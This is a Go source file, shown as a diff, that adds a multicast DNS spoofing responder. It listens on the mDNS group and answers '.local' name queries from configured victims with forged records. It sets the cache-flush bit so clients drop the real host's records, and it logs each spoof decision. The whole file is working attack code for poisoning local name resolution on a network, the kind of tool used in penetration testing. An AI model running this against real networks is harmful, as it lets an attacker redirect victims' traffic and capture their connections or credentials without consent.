@@ -0,0 +1,186 @@
+package main
+
+import (
+	"context"
+	"net"
+	"strings"
+	"time"
+
+	"github.com/google/gopacket"
+	"github.com/google/gopacket/layers"
+)
+
+const (
+	// mdnsPort is the port multicast DNS is spoken on.
+	mdnsPort = 5353
+	// mdnsTTL is how long mDNS answers may be cached for,
+	// as is usual for host records (RFC 6762, section 10).
+	mdnsTTL = 120
+	// mdnsLegacyTTL bounds the TTL of answers to legacy unicast
+	// queries, which are not from an mDNS stack (RFC 6762, section 6.7).
+	mdnsLegacyTTL = 10
+	// mdnsUnicastBit is the top bit of a question's class, which asks
+	// for a unicast response (the QU bit), and of an answer's class,
+	// which tells the client to flush its cache of other records for
+	// the name (the cache-flush bit) (RFC 6762, sections 5.4 and 10.2).
+	mdnsUnicastBit = 1 << 15
+)
+
+// mdnsGroup is the IPv4 multicast group of mDNS.
+var mdnsGroup = &net.UDPAddr{IP: net.IPv4(224, 0, 0, 251), Port: mdnsPort}
+
+// MDNSResponse returns the multicast DNS response to query which
+// answers its questions for .local names found in table (see
+// SpoofTable.SpoofedResponse), and whether there are any. Denied
+// names are left unanswered, since mDNS has no NXDOMAIN.
+//
+// As RFC 6762 requires, the response is authoritative, has a zero
+// ID and no questions, and sets the cache-flush bit on its answers, so
+// that clients replace the real host's records with ours. If legacy is
+// set, because the query came from a plain resolver rather than from
+// port 5353, the response is instead shaped like a unicast DNS one: it
+// echoes the ID and questions, and its answers have short TTLs.
+func MDNSResponse(query *layers.DNS, table *SpoofTable, legacy bool) (*layers.DNS, bool) {
+	if !isStandardQuery(query) {
+		return nil, false
+	}
+	local := *query
+	local.Questions = nil
+	for _, q := range questionsOf(query) {
+		if !strings.HasSuffix(normalizeDomain(string(q.Name)), ".local") {
+			continue
+		}
+		q.Class &^= mdnsUnicastBit
+		local.Questions = append(local.Questions, q)
+	}
+	if len(local.Questions) == 0 {
+		return nil, false
+	}
+	local.QDCount = uint16(len(local.Questions))
+
+	ttl := uint32(mdnsTTL)
+	if legacy {
+		ttl = mdnsLegacyTTL
+	}
+	response, ok := table.SpoofedResponse(&local, ttl)
+	if !ok || response.ResponseCode != layers.DNSResponseCodeNoErr {
+		return nil, false
+	}
+	response.AA = true
+	response.RD, response.RA = false, false
+	if legacy {
+		response.Questions = query.Questions
+		response.QDCount = query.QDCount
+		return response, true
+	}
+	response.ID = 0
+	response.Questions, response.QDCount = nil, 0
+	for i := range response.Answers {
+		response.Answers[i].Class |= mdnsUnicastBit
+	}
+	return response, true
+}
+
+// mdnsWantsUnicast returns whether any of query's
+// questions has the QU bit set, asking for a unicast response.
+func mdnsWantsUnicast(query *layers.DNS) bool {
+	for _, q := range questionsOf(query) {
+		if q.Class&mdnsUnicastBit != 0 {
+			return true
+		}
+	}
+	return false
+}
+
+// RunMDNSResponder joins the mDNS multicast group on iface (or the
+// system's default interface if iface is nil) and answers queries there
+// from table under config as by ServeMDNS, until ctx is done.
+func RunMDNSResponder(ctx context.Context, iface *net.Interface, table *SpoofTable, config *SpoofConfig) error {
+	conn, err := net.ListenMulticastUDP("udp4", iface, mdnsGroup)
+	if err != nil {
+		return err
+	}
+	return ServeMDNS(ctx, conn, table, config)
+}
+
+// ServeMDNS reads multicast DNS queries from conn and answers those
+// from victims of config, which may be nil (see SpoofConfig.Victims),
+// which have questions for .local names in table, as built by
+// MDNSResponse. The response is multicast to the mDNS group unless a
+// question asked for a unicast response or the query is a legacy one,
+// in which case it goes straight back to the sender. Everything else
+// is left for the real hosts to answer.
+//
+// ServeMDNS closes conn and returns nil once ctx is done;
+// any other read error is returned.
+func ServeMDNS(ctx context.Context, conn net.PacketConn, table *SpoofTable, config *SpoofConfig) error {
+	return serveLinkLocal(ctx, conn, config, func(query *layers.DNS, from net.Addr) (*layers.DNS, net.Addr) {
+		legacy := false
+		if udpAddr, ok := from.(*net.UDPAddr); ok {
+			legacy = udpAddr.Port != mdnsPort
+		}
+		response, ok := MDNSResponse(query, table, legacy)
+		if !ok {
+			return nil, nil
+		}
+		if legacy || mdnsWantsUnicast(query) {
+			return response, from
+		}
+		return response, mdnsGroup
+	})
+}
+
+// serveLinkLocal reads queries for a link-local name resolution protocol
+// (mDNS or LLMNR) from conn, and has answer build the response to those
+// from victims of config, along with where to send it. A nil response
+// leaves the query unanswered. Every query is passed to config.observe.
+//
+// serveLinkLocal closes conn and returns nil once ctx is done;
+// any other read error is returned.
+func serveLinkLocal(ctx context.Context, conn net.PacketConn, config *SpoofConfig, answer func(query *layers.DNS, from net.Addr) (*layers.DNS, net.Addr)) error {
+	done := make(chan struct{})
+	defer close(done)
+	go func() {
+		select {
+		case <-ctx.Done():
+		case <-done:
+		}
+		conn.Close()
+	}()
+
+	buf := make([]byte, 65535)
+	for {
+		n, addr, err := conn.ReadFrom(buf)
+		if err != nil {
+			if ctx.Err() != nil {
+				return nil
+			}
+			return err
+		}
+		start := time.Now()
+		pkt := gopacket.NewPacket(buf[:n], layers.LayerTypeDNS, gopacket.Default)
+		dns, ok := pkt.Layer(layers.LayerTypeDNS).(*layers.DNS)
+		if !ok || !IsQuery(dns) {
+			continue
+		}
+
+		decision := SpoofDecision{Query: dns, Action: ActionIgnore}
+		var response *layers.DNS
+		var dst net.Addr
+		if config.victim(addrIP(addr), nil) {
+			if response, dst = answer(dns, addr); response != nil {
+				decision.Action, decision.Response = ActionSpoof, response
+			}
+		}
+		config.observe(addr.String(), start, decision)
+		if response == nil {
+			continue
+		}
+
+		b, err := SerializeDNS(response)
+		if err != nil {
+			continue
+		}
+		conn.WriteTo(b, dst)
+	}
+}